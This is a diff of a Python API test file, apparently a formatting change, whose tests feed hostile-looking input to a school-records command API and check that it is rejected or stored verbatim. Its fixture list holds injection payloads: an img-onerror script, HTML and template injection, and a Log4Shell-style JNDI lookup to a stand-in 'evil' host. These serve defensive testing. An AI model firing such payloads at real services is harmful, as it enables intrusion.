@@ -35,7 +35,7 @@ NASTY = [
     '<img src=x onerror="alert(1)">',
     "</td></tr></table><h1>injected</h1>",
     "{{ 7*7 }} {% raw %} ${jndi:ldap://evil/x}",
-    "O'Brien & <Sons> \"Ltd\" \\ back\\slash",
+    'O\'Brien & <Sons> "Ltd" \\ back\\slash',
     "Zoë — ∑ 🚀 \u202eRTL override\u202c",
     "nul\u0000byte and\ttab\nnewline",
     "-- ; /* */ \\x00 \\' \\\"",
@@ -144,7 +144,9 @@ def test_nested_json_within_the_parsers_depth_is_refused_with_422(small, depth):
     nested = "[" * depth + "]" * depth
     response = post_raw(api, "/v1/commands/batch", '{"commands": ' + nested + "}")
     assert_error(response, 422, "invalid_input")
-    response = post_raw(api, "/v1/commands", '{"type": "register_district", "district_id": "D-1", "name": ' + nested + "}")
+    response = post_raw(
+        api, "/v1/commands", '{"type": "register_district", "district_id": "D-1", "name": ' + nested + "}"
+    )
     assert_error(response, 422, "invalid_input")
     assert api.position() == 0
 
@@ -203,15 +205,25 @@ def test_names_titles_and_reasons_that_look_like_sql_or_html_are_stored_verbatim
         pid = f"P-N{n}"
         people.append(pid)
         for body in (
-            {"type": "register_person", "person_id": pid, "name": text, "email": f"n{n}@x.org",
-             "effective_at": "2024-08-01"},
+            {
+                "type": "register_person",
+                "person_id": pid,
+                "name": text,
+                "email": f"n{n}@x.org",
+                "effective_at": "2024-08-01",
+            },
             {"type": "update_profile", "person_id": pid, "title": text},
             {"type": "add_affiliation", "person_id": pid, "org_id": "S-1", "effective_at": "2024-08-01"},
             {"type": "register_district", "district_id": f"D-N{n}", "name": text},
         ):
             assert api.command(**body).status_code == 201
-        api.ok(type="revoke_access_code", school_id="S-1", exam_year=2025, reason=text,
-               effective_at=f"2025-07-02T10:{n:02d}:00Z")
+        api.ok(
+            type="revoke_access_code",
+            school_id="S-1",
+            exam_year=2025,
+            reason=text,
+            effective_at=f"2025-07-02T10:{n:02d}:00Z",
+        )
         api.ok(type="issue_access_code", school_id="S-1", exam_year=2025, effective_at=f"2025-07-02T10:{n:02d}:30Z")
         district = [e for e in events_of(api) if e["type"] == "DistrictRegistered"][-1]
         api.ok(type="void_event", event_id=district["event_id"], reason=text)
@@ -267,8 +279,13 @@ def console_session(api: Api) -> None:
     token = re.search(r'name="form_token" value="([^"]+)"', form.text)
     assert token is not None
     signed = api.http.post(
-        "/console/sign-in", data={"api_key": auth("auditor")["Authorization"].split()[1], "form_token": token.group(1),
-                                  "next": "/console/"}, follow_redirects=False,
+        "/console/sign-in",
+        data={
+            "api_key": auth("auditor")["Authorization"].split()[1],
+            "form_token": token.group(1),
+            "next": "/console/",
+        },
+        follow_redirects=False,
     )
     assert signed.status_code == 303, signed.text
 
